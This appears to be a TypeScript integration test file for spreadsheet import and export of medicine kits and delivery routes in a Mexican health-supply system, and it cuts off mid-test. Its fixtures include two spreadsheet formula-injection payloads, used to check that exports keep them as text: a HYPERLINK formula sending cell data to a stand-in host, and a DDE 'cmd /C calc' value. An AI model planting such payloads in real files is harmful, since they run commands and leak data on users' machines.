import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { Viewer } from '../../src/base/auth';
import { Context } from '../../src/base/context';
import { addDays, businessDay } from '../../src/domain/dates';
import { Role } from '../../src/domain/enums';
import { createContext } from '../../src/graphql/context';
import { importKitTemplates, importRoutes, KitImportSummary, kitTemplatesFile, parseLevelOfCare, parseSheetDate } from '../../src/modules/distribution/distribution-files';
import { TestApi } from '../support/api';
import { runCli } from '../support/cli';
import { TestDatabase } from '../support/database';
import { CLAVES } from '../support/network';
import { startNetworkApi, stopNetworkApi } from '../support/setup';

/**
 * Kits and routes of Rutas de la Salud from spreadsheets (issue 20): the procurement analyst's kit
 * workbook and logistics' route files go through kitTemplateCreate's and routeUpsert's own rules; a
 * re-run changes nothing; every refused line is reported with its line and the API's Spanish message.
 *
 * Claves of test/support/network.ts: paracetamol and gasa for every level, trastuzumab third level only.
 * Guerrero (12): the warehouse GRSSA000010 and its units GRSSA000001–3, plus GRIMB000101–105 made here;
 * OCSSA000001 is in Oaxaca.
 */

let tdb: TestDatabase;
let api: TestApi;
let central: string;
let dir: string;
let ctx: Context;

const TODAY = businessDay();
const nextMonth = (m: string, n = 1) => {
  const [y, mm] = m.split('-').map(Number);
  return new Date(Date.UTC(y, mm - 1 + n, 1)).toISOString().slice(0, 7);
};
const THIS = `${TODAY.slice(0, 7)}-01`;
const M1 = `${nextMonth(TODAY.slice(0, 7))}-01`;
const M2 = `${nextMonth(TODAY.slice(0, 7), 2)}-01`;
const dmy = (d: string) => `${d.slice(8, 10)}/${d.slice(5, 7)}/${d.slice(0, 4)}`;
const PARA = CLAVES.paracetamol;
const GASA = CLAVES.gasa;
const TRAS = CLAVES.trastuzumab;
const HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"ver")';
const HOSTILE_DESCRIPTION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const HOSTILE_CLAVE = '010.000.9004.00';

const KIT_HEADER = ['KIT', 'NOMBRE', 'NIVEL', 'VIGENTE_DESDE', 'VIGENTE_HASTA', 'CLAVE', 'PIEZAS_POR_KIT'];
const ROUTE_HEADER = 'RUTA,NOMBRE,ALMACEN,TRANSPORTISTA,SEMANA,KIT,PARADA,CLUES';

beforeAll(async () => {
  ({ tdb, api } = await startNetworkApi());
  central = await api.token(Role.CENTRAL);
  const admin = await api.token(Role.ADMIN);
  for (const n of [101, 102, 103, 104, 105]) {
    await api.mutate(admin, 'establishmentUpsert', 'EstablishmentUpsertInput', {
      clues: `GRIMB000${n}`, name: `Centro de Salud Rural ${n}`, kind: 'FIXED', levelOfCare: 'FIRST', supplyingWarehouseClues: 'GRSSA000010',
    });
  }
  await api.mutate(central, 'supplyItemUpsert', 'SupplyItemUpsertInput', { clave: HOSTILE_CLAVE, description: HOSTILE_DESCRIPTION, kind: 'MEDICINE', authorizedLevels: ['FIRST'] });
  ctx = createContext(tdb.db, api.config, new Viewer('test-import', Role.ADMIN, null, null));
  dir = await mkdtemp(join(tmpdir(), 'abasto-distribution-files-'));
}, 60_000);

afterAll(async () => {
  await stopNetworkApi(api, tdb);
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function csvFile(name: string, lines: string[], encoding: 'utf-8' | 'windows-1252' = 'utf-8'): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, iconv.encode(lines.join('\r\n') + '\r\n', encoding));
  return path;
}

async function xlsxFile(name: string, rows: unknown[][]): Promise<string> {
  const book = new ExcelJS.Workbook();
  // a first sheet without the columns: the import reads the sheet that has them
  book.addWorksheet('Léame').addRow(['Kits del analista de compras, septiembre']);
  const sheet = book.addWorksheet('Kits');
  for (const r of rows) sheet.addRow(r);
  const path = join(dir, name);
  await book.xlsx.writeFile(path);
  return path;
}

const day = (d: string) => new Date(`${d}T00:00:00Z`);
const counts = (s: { read: number; created: number; updated: number; unchanged: number; rejected: number; skipped: number }) => {
  const { read, created, updated, unchanged, rejected, skipped } = s;
  return { read, created, updated, unchanged, rejected, skipped };
};
const rejections = (s: KitImportSummary | { rejections: Array<{ line: number; clues: string | null; code: string; message: string }> }) =>
  s.rejections.map((r) => [r.line, r.clues, r.code, r.message]);
const kitOutcomes = (s: KitImportSummary) => s.kits.map((k) => [k.code, k.outcome, k.version]);

async function kits(code: string): Promise<any[]> {
  const r = await api.gql(`query($c: String) { kitTemplates(code: $c) { version name levelOfCare validFrom validTo lines { clave pieces } } }`, { c: code }, central);
  expect(r.errors).toBeUndefined();
  return r.data.kitTemplates;
}

async function templateRows(): Promise<number> {
  const [{ n }] = await tdb.db.query('SELECT (SELECT count(*) FROM kit_template) + (SELECT count(*) FROM kit_template_line) AS n');
  return Number(n);
}

describe('reading a spreadsheet\'s cells', () => {
  test('levels and days as people write them', () => {
    expect(['1', 'PRIMER NIVEL', '1er nivel', 'Nivel 1', '1°', 'primero', 'FIRST'].map(parseLevelOfCare)).toEqual(Array(7).fill('FIRST'));
    expect(['2', 'Segundo nivel', '2do. Nivel de atención', 'II'].map(parseLevelOfCare)).toEqual(Array(4).fill('SECOND'));
    expect(['3', 'TERCER NIVEL', 'tercero'].map(parseLevelOfCare)).toEqual(Array(3).fill('THIRD'));
    expect(['4', 'cuarto', '', 'primer nivel y segundo'].map(parseLevelOfCare)).toEqual(Array(4).fill(undefined));
    expect(['2025-09-01', '01/09/2025', '1/9/2025', '01-09-2025', '45901', '45901.0', ''].map(parseSheetDate)).toEqual([...Array(6).fill('2025-09-01'), null]);
    expect(['2025-02-30', '31/02/2025', '09/31/2025', 'septiembre', '2025/09/01'].map(parseSheetDate)).toEqual(Array(5).fill(undefined));
  });
});

describe('kit files', () => {
  let xlsx: string;

  test('an xlsx workbook: one version per KIT, rows that leave the kit\'s columns blank take them from the kit\'s first row', async () => {
    xlsx = await xlsxFile('kits.xlsx', [
      KIT_HEADER,
      /* 2 */ ['KIT-PN', 'Kit primer nivel', 'PRIMER NIVEL', day(THIS), null, PARA, 10],
      /* 3 */ ['KIT-PN', null, null, null, null, GASA, 4],
      /* 4 */ ['kit-hosp', 'Kit hospital', 3, day(THIS), null, TRAS, 2],
      /* 5 */ ['KIT-HOSP', 'Kit hospital', 'Tercer nivel', null, null, PARA, 20],
    ]);
    const s = await importKitTemplates(ctx, xlsx);
    expect(counts(s)).toEqual({ read: 4, created: 4, updated: 0, unchanged: 0, rejected: 0, skipped: 0 });
    expect(rejections(s)).toEqual([]);
    expect(s.notes).toBeUndefined();
    expect(kitOutcomes(s)).toEqual([['KIT-PN', 'CREATED', 1], ['KIT-HOSP', 'CREATED', 1]]);
    expect(await kits('KIT-PN')).toEqual([
      { version: 1, name: 'Kit primer nivel', levelOfCare: 'FIRST', validFrom: THIS, validTo: null, lines: [{ clave: PARA, pieces: 10 }, { clave: GASA, pieces: 4 }] },
    ]);
    expect(await kits('KIT-HOSP')).toEqual([
      { version: 1, name: 'Kit hospital', levelOfCare: 'THIRD', validFrom: THIS, validTo: null, lines: [{ clave: PARA, pieces: 20 }, { clave: TRAS, pieces: 2 }] },
    ]);
    const [{ created_by }] = await tdb.db.query(`SELECT created_by FROM kit_template WHERE code = 'KIT-PN'`);
    expect(created_by).toBe('test-import');
  });

  test('the same workbook again: sin cambios, nothing written', async () => {
    const before = await templateRows();
    const s = await importKitTemplates(ctx, xlsx);
    expect(counts(s)).toEqual({ read: 4, created: 0, updated: 0, unchanged: 4, rejected: 0, skipped: 0 });
    expect(kitOutcomes(s)).toEqual([['KIT-PN', 'UNCHANGED', 1], ['KIT-HOSP', 'UNCHANGED', 1]]);
    expect(s.notes).toBeUndefined();
    expect(await templateRows()).toBe(before);
  });

  test('Excel\'s CSV (Windows-1252, ;, DD/MM/AAAA): other pieces make a new version; a new kit keeps its accents', async () => {
    const file = await csvFile(
      'kits-excel.csv',
      [
        KIT_HEADER.join(';'),
        /* 2 */ `KIT-PN;Kit primer nivel;1er nivel;${dmy(M1)};;${PARA};12`,
        /* 3 */ `KIT-PN;Kit primer nivel;1er nivel;${dmy(M1)};;${GASA};4`,
        /* 4 */ `KIT-UMM;Kit Unidad Médica Móvil — Ñuu Savi;1;${THIS};;${GASA};6`,
      ],
      'windows-1252',
    );
    const s = await importKitTemplates(ctx, file);
    expect(counts(s)).toEqual({ read: 3, created: 1, updated: 2, unchanged: 0, rejected: 0, skipped: 0 });
    expect(kitOutcomes(s)).toEqual([['KIT-PN', 'NEW_VERSION', 2], ['KIT-UMM', 'CREATED', 1]]);
    expect(await kits('KIT-PN')).toEqual([
      { version: 2, name: 'Kit primer nivel', levelOfCare: 'FIRST', validFrom: M1, validTo: null, lines: [{ clave: PARA, pieces: 12 }, { clave: GASA, pieces: 4 }] },
      { version: 1, name: 'Kit primer nivel', levelOfCare: 'FIRST', validFrom: THIS, validTo: addDays(M1, -1), lines: [{ clave: PARA, pieces: 10 }, { clave: GASA, pieces: 4 }] },
    ]);
    expect((await kits('KIT-UMM'))[0].name).toBe('Kit Unidad Médica Móvil — Ñuu Savi');
    const again = await importKitTemplates(ctx, file);
    expect(counts(again)).toEqual({ read: 3, created: 0, updated: 0, unchanged: 3, rejected: 0, skipped: 0 });
  });

  test('the same claves and pieces from another day: sin cambios, and a note says the dates were not applied', async () => {
    const before = await templateRows();
    const file = await csvFile('kits-otra-fecha.csv', [KIT_HEADER.join(','), `KIT-UMM,Kit Unidad Médica Móvil — Ñuu Savi,1,${M2},,${GASA},6`]);
    const s = await importKitTemplates(ctx, file);
    expect(counts(s)).toEqual({ read: 1, created: 0, updated: 0, unchanged: 1, rejected: 0, skipped: 0 });
    expect(s.notes).toEqual([
      { line: 2, clues: null, code: 'SAME_AS_STORED', message: `KIT-UMM: las claves y piezas son las de su versión 1 (vigente del ${THIS} sin fecha de término); no se creó otra versión ni cambió su vigencia.` },
    ]);
    expect(await templateRows()).toBe(before);
  });

  test('refused lines, each with its line and the reason in Spanish; a kit with any is not created, the others are', async () => {
    const before = await kits('KIT-PN');
    const file = await csvFile('kits-errores.csv', [
      KIT_HEADER.join(','),
      /* 2 */ `KIT-X1,Kit con clave de tercer nivel,1,${THIS},,${TRAS},1`,
      /* 3 */ `KIT-X1,,,,,010.000.9999.00,2`,
      /* 4 */ `KIT-X1,,,,,${PARA},5`,
      /* 5 */ `KIT-X2,Kit con piezas mal escritas,1,${THIS},,${PARA},diez`,
      /* 6 */ `KIT-X2,,,,,${TRAS},0`,
      /* 7 */ `KIT-X2,,,,,10.000.0104.00,3`,
      /* 8 */ `KIT-X2,,,,,${GASA},3`,
      /* 9 */ `,Kit sin código,1,${THIS},,${PARA},1`,
      /* 10 */ `KIT-X3,Kit de nivel desconocido,cuarto,${THIS},,${PARA},1`,
      /* 11 */ `KIT-OK,Kit bueno,2,${THIS},,${PARA},7`,
      /* 12 */ `KIT-X4,Kit de fecha imposible,1,31/02/2026,,${PARA},1`,
      /* 13 */ `KIT-PN,Kit primer nivel,1,${THIS},,${PARA},99`,
      /* 14 */ `KIT-X5,Kit con nombres distintos,1,${THIS},,${PARA},1`,
      /* 15 */ `KIT-X5,Otro nombre,1,${THIS},,${GASA},1`,
    ]);
    const s = await importKitTemplates(ctx, file);
    expect(counts(s)).toEqual({ read: 14, created: 1, updated: 0, unchanged: 0, rejected: 13, skipped: 0 });
    expect(rejections(s)).toEqual([
      [2, TRAS, 'NOT_AUTHORIZED_FOR_LEVEL', `La clave ${TRAS} no está autorizada para el primer nivel.`],
      [3, '010.000.9999.00', 'UNKNOWN_CLAVE', 'No existe la clave 010.000.9999.00.'],
      [4, PARA, 'KIT_NOT_CREATED', 'El kit KIT-X1 no se creó: vea las líneas 2, 3.'],
      [5, PARA, 'INVALID_PIECES', 'PIEZAS_POR_KIT «diez» no es un número entero de piezas de 1 o más.'],
      [6, TRAS, 'INVALID_PIECES', 'PIEZAS_POR_KIT «0» no es un número entero de piezas de 1 o más.'],
      [7, '10.000.0104.00', 'INVALID_CLAVE', 'CLAVE «10.000.0104.00»: el primer grupo tiene 2 dígitos y debe tener 3; se espera GGG.GGG.GGGG.VV, p. ej. 010.000.0104.00.'],
      [8, GASA, 'KIT_NOT_CREATED', 'El kit KIT-X2 no se creó: corrija las líneas 5, 6, 7 del archivo.'],
      [9, PARA, 'REQUIRED', 'Falta el código en la columna KIT.'],
      [10, PARA, 'INVALID_LEVEL', 'NIVEL «cuarto» no es un nivel de atención: use 1, 2 o 3 (o PRIMER, SEGUNDO, TERCER NIVEL).'],
      [12, PARA, 'INVALID_DATE', 'VIGENTE_DESDE «31/02/2026» no es una fecha: use AAAA-MM-DD o DD/MM/AAAA.'],
      [13, PARA, 'INCONSISTENT', `VIGENTE_DESDE: La versión 2 de KIT-PN empieza el ${M1}; la nueva debe empezar después.`],
      [14, PARA, 'KIT_NOT_CREATED', 'El kit KIT-X5 no se creó: corrija la línea 15 del archivo.'],
      [15, GASA, 'INCONSISTENT', 'NOMBRE «Otro nombre» distinto del de la línea 14 («Kit con nombres distintos»): todas las filas de la versión del kit KIT-X5 del ' + THIS + ' llevan el mismo.'],
    ]);
    expect(kitOutcomes(s)).toEqual([
      ['KIT-X1', 'REJECTED', null],
      ['KIT-X2', 'REJECTED', null],
      ['KIT-X3', 'REJECTED', null],
      ['KIT-OK', 'CREATED', 1],
      ['KIT-X4', 'REJECTED', null],
      ['KIT-PN', 'REJECTED', null],
      ['KIT-X5', 'REJECTED', null],
    ]);
    const codes = await tdb.db.query(`SELECT DISTINCT code FROM kit_template ORDER BY code`);
    expect(codes.map((r: any) => r.code)).toEqual(['KIT-HOSP', 'KIT-OK', 'KIT-PN', 'KIT-UMM']);
    expect(await kits('KIT-PN')).toEqual(before);
  });

  test('a file without one of the columns is refused whole', async () => {
    const file = await csvFile('kits-sin-piezas.csv', ['KIT,NOMBRE,NIVEL,VIGENTE_DESDE,CLAVE', `KIT-PN,Kit primer nivel,1,${THIS},${PARA}`]);
    await expect(importKitTemplates(ctx, file)).rejects.toThrow(`Faltan columnas obligatorias en ${file}: PIEZAS_POR_KIT`);
  });
});

describe('kit export', () => {
  const EXPORT = `query($code: String, $all: Boolean, $format: ExportFormat!) { kitTemplatesExport(code: $code, allVersions: $all, format: $format) { filename mimeType rows contentBase64 } }`;

  async function exported(vars: Record<string, unknown>, token = central) {
    const r = await api.gql(EXPORT, vars, token);
    expect(r.errors).toBeUndefined();
    const f = r.data.kitTemplatesExport;
    return { ...f, content: Buffer.from(f.contentBase64, 'base64') };
  }

  async function sheetRows(content: Buffer): Promise<unknown[][]> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(content as any);
    const rows: unknown[][] = [];
    book.getWorksheet('Kits')!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    return rows;
  }

  beforeAll(async () => {
    // an ended version (KIT-OLD v1), and a kit whose name and one of whose descriptions read as formulas
    for (const [from, pieces] of [['2024-01-01', 1], ['2024-06-01', 2]] as const) {
      await api.mutate(central, 'kitTemplateCreate', 'KitTemplateCreateInput', { code: 'KIT-OLD', name: 'Kit anterior', levelOfCare: 'SECOND', validFrom: from, lines: [{ clave: PARA, pieces }] });
    }
    await api.mutate(central, 'kitTemplateCreate', 'KitTemplateCreateInput', {
      code: 'KIT-F', name: HYPERLINK, levelOfCare: 'FIRST', validFrom: THIS, lines: [{ clave: HOSTILE_CLAVE, pieces: 3 }, { clave: PARA, pieces: 1 }],
    });
  });

  test('XLSX: the versions not yet ended, one row per clave, days as date cells, a description to read by', async () => {
    const f = await exported({ format: 'XLSX' });
    expect(f.filename).toBe(`kits-${TODAY}.xlsx`);
    expect(f.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const rows = await sheetRows(f.content);
    expect(rows[0]).toEqual(['KIT', 'NOMBRE', 'NIVEL', 'VIGENTE_DESDE', 'VIGENTE_HASTA', 'CLAVE', 'DESCRIPCION', 'PIEZAS_POR_KIT']);
    expect(f.rows).toBe(rows.length - 1);
    const versions = [...new Set(rows.slice(1).map((r) => `${r[0]} ${(r[3] as Date).toISOString().slice(0, 10)}`))];
    expect(versions).toEqual([`KIT-F ${THIS}`, `KIT-HOSP ${THIS}`, `KIT-OK ${THIS}`, 'KIT-OLD 2024-06-01', `KIT-PN ${THIS}`, `KIT-PN ${M1}`, `KIT-UMM ${THIS}`]);
    expect(rows.find((r) => r[0] === 'KIT-PN' && r[5] === PARA)).toEqual(['KIT-PN', 'Kit primer nivel', 1, day(THIS), day(addDays(M1, -1)), PARA, 'Paracetamol. Tableta 500 mg', 10]);
    expect(rows.find((r) => r[0] === 'KIT-OK')).toEqual(['KIT-OK', 'Kit bueno', 2, day(THIS), '', PARA, 'Paracetamol. Tableta 500 mg', 7]);
  });

  test('every version with allVersions; one code\'s with code; CSV', async () => {
    const all = await sheetRows((await exported({ format: 'XLSX', all: true })).content);
    expect(all.filter((r) => r[0] === 'KIT-OLD').map((r) => [r[3], r[4], r[7]])).toEqual([[day('2024-01-01'), day('2024-05-31'), 1], [day('2024-06-01'), '', 2]]);
    const one = await exported({ format: 'CSV', code: 'kit-pn' });
    expect(one.filename).toBe(`kits-KIT-PN-${TODAY}.csv`);
    const text = one.content.toString('utf8');
    expect(text.startsWith('\uFEFFKIT,NOMBRE,NIVEL,VIGENTE_DESDE,VIGENTE_HASTA,CLAVE,DESCRIPCION,PIEZAS_POR_KIT\r\n')).toBe(true);
    expect(parse(text.slice(1)).slice(1)).toEqual([
      ['KIT-PN', 'Kit primer nivel', '1', THIS, addDays(M1, -1), PARA, 'Paracetamol. Tableta 500 mg', '10'],
      ['KIT-PN', 'Kit primer nivel', '1', THIS, addDays(M1, -1), GASA, 'Gasa 10 x 10 cm', '4'],
      ['KIT-PN', 'Kit primer nivel', '1', M1, '', PARA, 'Paracetamol. Tableta 500 mg', '12'],
      ['KIT-PN', 'Kit primer nivel', '1', M1, '', GASA, 'Gasa 10 x 10 cm', '4'],
    ]);
    expect(one.rows).toBe(4);
    // anyone signed in may read it; nobody else
    const unit = await exported({ format: 'CSV', code: 'KIT-PN' }, await api.token(Role.PHARMACY, { clues: 'GRSSA000001' }));
    expect(unit.rows).toBe(4);
    const anonymous = await api.gql(EXPORT, { format: 'CSV' }, null);
    expect(anonymous.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
  });

  test('a name or description that reads as a formula stays text, in XLSX and CSV, and imports back as it was', async () => {
    const xlsx = await exported({ format: 'XLSX', code: 'KIT-F' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.content as any);
    const cells: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((c) => cells.push(c))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    const rows = await sheetRows(xlsx.content);
    expect(rows.slice(1).map((r) => [r[1], r[6]])).toEqual([
      [`'${HYPERLINK}`, 'Paracetamol. Tableta 500 mg'],
      [`'${HYPERLINK}`, `'${HOSTILE_DESCRIPTION}`],
    ]);
    const csv = await exported({ format: 'CSV', code: 'KIT-F' });
    const records = parse(csv.content.toString('utf8').slice(1)) as string[][];
    expect(records.slice(1).map((r) => [r[1], r[6]])).toEqual([
      [`'${HYPERLINK}`, 'Paracetamol. Tableta 500 mg'],
      [`'${HYPERLINK}`, `'${HOSTILE_DESCRIPTION}`],
    ]);
    const before = await templateRows();
    for (const [name, f] of [['kit-f.xlsx', xlsx], ['kit-f.csv', csv]] as const) {
      const path = join(dir, name);
      await writeFile(path, f.content);
      const s = await importKitTemplates(ctx, path);
      expect(counts(s)).toEqual({ read: 2, created: 0, updated: 0, unchanged: 2, rejected: 0, skipped: 0 });
    }
    expect(await templateRows()).toBe(before);
    expect((await kits('KIT-F'))[0].name).toBe(HYPERLINK);
  });

  test('export, edit in Excel, import: the edited kit gets a new version, everything else is sin cambios', async () => {
    const file = await kitTemplatesFile(tdb.db, { today: TODAY }, 'XLSX');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file.content as any);
    const sheet = book.getWorksheet('Kits')!;
    sheet.eachRow((row) => {
      if (row.getCell(1).value !== 'KIT-UMM') return;
      row.getCell(4).value = day(M2);
      row.getCell(8).value = 8;
    });
    const path = join(dir, 'kits-editados.xlsx');
    await book.xlsx.writeFile(path);
    const s = await importKitTemplates(ctx, path);
    expect(counts(s)).toEqual({ read: file.rows, created: 0, updated: 1, unchanged: file.rows - 1, rejected: 0, skipped: 0 });
    expect(s.kits.filter((k) => k.outcome !== 'UNCHANGED').map((k) => [k.code, k.outcome, k.version, k.validFrom])).toEqual([['KIT-UMM', 'NEW_VERSION', 2, M2]]);
    expect(s.notes).toBeUndefined();
    expect((await kits('KIT-UMM')).map((k) => [k.version, k.validFrom, k.validTo, k.lines])).toEqual([
      [2, M2, null, [{ clave: GASA, pieces: 8 }]],
      [1, THIS, addDays(M2, -1), [{ clave: GASA, pieces: 6 }]],
    ]);
  });

  test('the command line: every version to CSV and back, sin cambios', async () => {
    const out = join(dir, 'todas.csv');
    const exportRun = await runCli('src/cli/export-kits.ts', ['--all-versions', '--out', out], tdb.url);
    expect({ code: exportRun.code, stderr: exportRun.stderr }).toEqual({ code: 0, stderr: '' });
    const rows = (await readFile(out, 'utf8')).trim().split('\r\n').length - 1;
    expect(exportRun.stdout).toBe(`kits: 9 versiones de kit, ${rows} filas → ${out}\n`);
    const before = await templateRows();
    const importRun = await runCli('src/cli/import-kits.ts', [out], tdb.url);
    expect(importRun.code).toBe(0);
    expect(importRun.stdout).toContain(`leídas ${rows} · creadas 0 · actualizadas 0 · sin cambios ${rows} · rechazadas 0 · omitidas 0`);
    expect(importRun.stdout).toContain('kits: nuevos 0 · versiones nuevas 0 · sin cambios 9 · rechazados 0');
    expect(await templateRows()).toBe(before);
  });

  test('the command line: bad arguments exit 1 with the usage', async () => {
    const [bad, missing] = await Promise.all([
      runCli('src/cli/export-kits.ts', ['--format', 'pdf'], tdb.url),
      runCli('src/cli/import-kits.ts', [join(dir, 'no-existe.xlsx')], tdb.url),
    ]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('error: --format is csv or xlsx');
    expect(bad.stderr).toContain('usage: npm run export:kits -- [--code KIT-PN] [--all-versions] [--format xlsx|csv] [--out FILE]');
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain(`error: no such file: ${join(dir, 'no-existe.xlsx')}`);
    expect(missing.stderr).toContain('usage: npm run import:kits -- FILE.xlsx|FILE.csv [--rejects FILE.csv]');
  });

  test('the command line: refused lines on screen and in a file for Excel; a file without a column exits 1', async () => {
    const file = await csvFile('cli-kits.csv', [KIT_HEADER.join(','), `KIT-X1,Kit,1,${THIS},,${TRAS},1`, `KIT-X1,Kit,1,${THIS},,${PARA},1`, `KIT-NUEVO,Kit nuevo,1,${THIS},,${GASA},2`]);
    const rejects = join(dir, 'mis-rechazos.csv');
    const r = await runCli('src/cli/import-kits.ts', [file, '--rejects', rejects], tdb.url);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('leídas 3 · creadas 1 · actualizadas 0 · sin cambios 0 · rechazadas 2 · omitidas 0');
    expect(r.stdout).toContain(`  línea 2 (${TRAS}): NOT_AUTHORIZED_FOR_LEVEL — La clave ${TRAS} no está autorizada para el primer nivel.`);
    expect(r.stdout).toContain('kits: nuevos 1 (KIT-NUEVO v1) · versiones nuevas 0 · sin cambios 0 · rechazados 1 (KIT-X1)');
    expect(r.stdout).toContain(`las 2 filas rechazadas, con su línea y el motivo: ${rejects}`);
    const [, ...lines] = parse((await readFile(rejects, 'utf8')).replace(/^\uFEFF/, '')) as string[][];
    expect(lines.map((l) => l.slice(0, 3))).toEqual([['2', TRAS, 'NOT_AUTHORIZED_FOR_LEVEL'], ['3', PARA, 'KIT_NOT_CREATED']]);

    const noColumn = await csvFile('cli-sin-columna.csv', ['KIT,NOMBRE,NIVEL,VIGENTE_DESDE,CLAVE', `KIT-PN,Kit,1,${THIS},${PARA}`]);
    const refused = await runCli('src/cli/import-kits.ts', [noColumn], tdb.url);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(`error: Faltan columnas obligatorias en ${noColumn}: PIEZAS_POR_KIT`);
  });
});

describe('route files', () => {
  const ROUTES = `query($kit: String) { routes(kitTemplateCode: $kit) { code name warehouseClues carrier deliveryWeek kitTemplateCode stops { position clues } } }`;
  const routes = async () => (await api.gql(ROUTES, { kit: 'KIT-PN' }, central)).data.routes;
  const stamps = () => tdb.db.query('SELECT code, updated_at::text FROM route ORDER BY code');
  let first: string;

  test('a file of stops: one route per RUTA, its stops in PARADA order', async () => {
    first = await csvFile('rutas.csv', [
      ROUTE_HEADER,
      /* 2 */ 'GRO-01,Ruta Centro,GRSSA000010,Birmex,3,KIT-PN,2,GRSSA000003',
      /* 3 */ 'GRO-01,,,,,,1,grssa000001',
      /* 4 */ 'gro-02,Ruta Norte,grssa000010,Correos de México,1,kit-pn,1,GRIMB000105',
    ]);
    const s = await importRoutes(ctx, first);
    expect(counts(s)).toEqual({ read: 3, created: 3, updated: 0, unchanged: 0, rejected: 0, skipped: 0 });
    expect(s.routes).toEqual([{ code: 'GRO-01', outcome: 'CREATED', stops: 2 }, { code: 'GRO-02', outcome: 'CREATED', stops: 1 }]);
    expect(await routes()).toEqual([
      { code: 'GRO-01', name: 'Ruta Centro', warehouseClues: 'GRSSA000010', carrier: 'Birmex', deliveryWeek: 3, kitTemplateCode: 'KIT-PN', stops: [{ position: 1, clues: 'GRSSA000001' }, { position: 2, clues: 'GRSSA000003' }] },
      { code: 'GRO-02', name: 'Ruta Norte', warehouseClues: 'GRSSA000010', carrier: 'Correos de México', deliveryWeek: 1, kitTemplateCode: 'KIT-PN', stops: [{ position: 1, clues: 'GRIMB000105' }] },
    ]);
  });

  test('the same file again: sin cambios, no route touched', async () => {
    const before = await stamps();
    const s = await importRoutes(ctx, first);
    expect(counts(s)).toEqual({ read: 3, created: 0, updated: 0, unchanged: 3, rejected: 0, skipped: 0 });
    expect(await stamps()).toEqual(before);
  });

  let problems: string;

  test('refused routes, each line with its reason: a stop of another state, a unit on two routes of the kit, a PARADA twice; numbers that skip are noted', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Rutas Birmex');
    for (const r of [
      ROUTE_HEADER.split(','),
      /* 2 */ ['GRO-03', 'Ruta Montaña', 'GRSSA000010', 'Birmex', 2, 'KIT-PN', 1, 'GRIMB000101'],
      /* 3 */ ['GRO-03', 'Ruta Montaña', 'GRSSA000010', 'Birmex', 2, 'KIT-PN', 2, 'OCSSA000001'],
      /* 4 */ ['GRO-04', 'Ruta Costa', 'GRSSA000010', 'Birmex', 2, 'KIT-PN', 1, 'GRIMB000102'],
      /* 5 */ ['GRO-05', 'Ruta Costa Chica', 'GRSSA000010', 'Birmex', 2, 'KIT-PN', 1, 'GRIMB000102'],
      /* 6 */ ['GRO-06', 'Ruta Sierra', 'GRSSA000010', 'Birmex', 4, 'KIT-PN', 1, 'GRIMB000103'],
      /* 7 */ ['GRO-06', 'Ruta Sierra', 'GRSSA000010', 'Birmex', 4, 'KIT-PN', 1, 'GRIMB000101'],
      /* 8 */ ['GRO-07', 'Ruta Tierra Caliente', 'GRSSA000010', 'Birmex', 4, 'KIT-PN', 1, 'GRIMB000103'],
      /* 9 */ ['GRO-07', 'Ruta Tierra Caliente', 'GRSSA000010', 'Birmex', 4, 'KIT-PN', 5, 'GRIMB000101'],
      /* 10 */ ['GRO-08', 'Ruta Sexta', 'GRSSA000010', 'Birmex', 9, 'KIT-PN', 1, 'GRIMB000104'],
    ]) sheet.addRow(r);
    problems = join(dir, 'rutas-birmex.xlsx');
    await book.xlsx.writeFile(problems);
    const s = await importRoutes(ctx, problems);
    expect(counts(s)).toEqual({ read: 9, created: 3, updated: 0, unchanged: 0, rejected: 6, skipped: 0 });
    expect(rejections(s)).toEqual([
      [2, 'GRIMB000101', 'ROUTE_NOT_SAVED', 'La ruta GRO-03 no se guardó: vea la línea 3.'],
      [3, 'OCSSA000001', 'STOP_OUTSIDE_STATE', 'OCSSA000001 es de otra entidad que el almacén GRSSA000010: una ruta no sale de su entidad.'],
      [5, 'GRIMB000102', 'ALREADY_ON_ROUTE', 'GRIMB000102 ya está en la ruta GRO-04 del kit KIT-PN: una unidad va en una sola ruta por kit.'],
      [6, 'GRIMB000103', 'ROUTE_NOT_SAVED', 'La ruta GRO-06 no se guardó: corrija la línea 7 del archivo.'],
      [7, 'GRIMB000101', 'DUPLICATE_POSITION', 'PARADA 1 repetida en la ruta GRO-06: también en la línea 6. Cada parada lleva su propio número.'],
      [10, 'GRIMB000104', 'OUT_OF_RANGE', 'SEMANA: Valor demasiado grande: máximo 5.'],
    ]);
    expect(s.notes).toEqual([
      { line: 8, clues: null, code: 'POSITION_GAP', message: 'Las paradas de la ruta GRO-07 no van de 1 en 1 (1, 5): se guardaron en ese orden como 1 a 2.' },
    ]);
    expect(s.routes.map((r) => [r.code, r.outcome])).toEqual([
      ['GRO-03', 'REJECTED'],
      ['GRO-04', 'CREATED'],
      ['GRO-05', 'REJECTED'],
      ['GRO-06', 'REJECTED'],
      ['GRO-07', 'CREATED'],
      ['GRO-08', 'REJECTED'],
    ]);
    expect((await routes()).map((r: any) => [r.code, r.stops.map((x: any) => `${x.position} ${x.clues}`)])).toEqual([
      ['GRO-01', ['1 GRSSA000001', '2 GRSSA000003']],
      ['GRO-02', ['1 GRIMB000105']],
      ['GRO-04', ['1 GRIMB000102']],
      ['GRO-07', ['1 GRIMB000103', '2 GRIMB000101']],
    ]);
  });

  test('a file that moves a unit from one route to another: the route that takes it may come first', async () => {
    const file = await csvFile('rutas-cambio.csv', [
